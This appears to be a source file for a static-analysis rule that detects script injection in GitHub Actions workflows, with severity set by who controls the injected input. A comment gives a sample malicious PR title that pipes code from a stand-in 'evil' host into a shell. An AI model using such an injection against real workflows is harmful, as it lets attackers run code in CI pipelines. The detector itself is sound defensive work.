import type { Severity } from "../../../core/severity.js";
import type { FileContext } from "../../file-context.js";
import type { ScanReport } from "../../rule.js";
import { expressionsIn, parseWorkflow, type Workflow } from "../parsers/workflow.js";
import { mapValue, scalarText } from "../parsers/yaml-source.js";

/** Leaf fields of github.event that an attacker cannot shape (ids, numbers, hashes, timestamps, fixed enums). */
const SAFE_LEAF =
  /^(number|id|node_id|sha|[a-z_]*_sha|before|after|run_id|run_number|run_attempt|workflow_id|check_suite_id|created_at|updated_at|closed_at|merged_at|pushed_at|html_url|url|api_url|state|merged|draft|size|additions|deletions|changed_files|commits|conclusion|status|action|private|fork|forced|deleted|created|login|author_association|type|full_name|default_branch|visibility)$/;

/**
 * GHA004: `${{ }}` is pasted into the script before the shell runs it, so a PR title such as
 * `"; curl evil | sh #` becomes code. Only contexts an outsider controls are reported.
 */
export function check(file: FileContext): ScanReport[] {
  const wf = parseWorkflow(file);
  if (!wf) return [];
  const reports: ScanReport[] = [];
  for (const job of wf.jobs) {
    for (const step of job.steps) {
      const sinks = [step.run?.node, step.uses && /^actions\/github-script@/i.test(step.uses.value) ? mapValue(step.with, "script") : undefined];
      for (const sink of sinks) {
        if (sink === undefined) continue;
        for (const expr of expressionsIn(file.text, sink)) {
          const tainted = taintedContext(expr.body, wf);
          if (!tainted) continue;
          const who = triggeredBy(tainted, wf);
          reports.push({
            message: `${tainted} is expanded into a script in job "${job.id}": its content runs as shell/JS${who.note}; pass it through env: and use "$VAR"`,
            start: expr.start,
            end: expr.end,
            ...(who.severity ? { severity: who.severity } : {}),
          });
        }
      }
    }
  }
  return reports;
}

function taintedContext(body: string, wf: Workflow): string | undefined {
  if (/toJSON\(\s*github\.event\s*\)/.test(body)) return "toJSON(github.event)";
  if (/\bgithub\.head_ref\b/.test(body)) return "github.head_ref";
  for (const m of body.matchAll(/\bgithub\.event\.([A-Za-z0-9_.*[\]'"-]+)/g)) {
    const path = m[1] ?? "";
    const inputs = /^inputs\.([A-Za-z0-9_-]+)/.exec(path);
    if (inputs) {
      if (!isTypedInput(wf, inputs[1] ?? "")) return `github.event.inputs.${inputs[1]}`;
      continue;
    }
    const leaf = path.split(".").at(-1) ?? "";
    if (!SAFE_LEAF.test(leaf) || /\b(head|base)\.ref$|\.label$|\.title$|\.body$/.test(path)) return `github.event.${path}`;
  }
  for (const m of body.matchAll(/\binputs\.([A-Za-z0-9_-]+)/g)) {
    if (body.slice(0, m.index).endsWith("event.")) continue;
    if (!isTypedInput(wf, m[1] ?? "")) return `inputs.${m[1]}`;
  }
  return undefined;
}

/**
 * Who can put text there decides the severity. Event fields (PR titles, branch names, comments) are anyone's:
 * high. A workflow_dispatch input is typed by someone who can already push (write access runs any workflow):
 * medium. A workflow_call input comes from the calling workflows in the same repository, usually constants:
 * low, unless the workflow can also be dispatched.
 */
function triggeredBy(tainted: string, wf: Workflow): { severity?: Severity; note: string } {
  const input = /^(?:github\.event\.)?inputs\.([A-Za-z0-9_-]+)$/.exec(tainted)?.[1];
  if (input === undefined) return { note: "" };
  const dispatch =
    mapValue(mapValue(wf.on, "workflow_dispatch"), "inputs") !== undefined &&
    mapValue(mapValue(mapValue(wf.on, "workflow_dispatch"), "inputs"), input) !== undefined;
  const called = mapValue(mapValue(mapValue(wf.on, "workflow_call"), "inputs"), input) !== undefined;
  if (dispatch || tainted.startsWith("github.event."))
    return { severity: "medium", note: " (a workflow_dispatch input: only people with write access can set it)" };
  if (called) return { severity: "low", note: " (a workflow_call input: set by the calling workflows; injectable only if a caller passes untrusted text)" };
  return { severity: "medium", note: "" };
}

/** workflow_dispatch / workflow_call inputs typed boolean, number or choice cannot carry shell syntax. */
function isTypedInput(wf: Workflow, name: string): boolean {
  for (const trigger of ["workflow_dispatch", "workflow_call"]) {
    const input = mapValue(mapValue(mapValue(wf.on, trigger), "inputs"), name);
    const type = scalarText(mapValue(input, "type"));
    if (type === "boolean" || type === "number" || type === "choice" || type === "environment") return true;
  }
  return false;
}
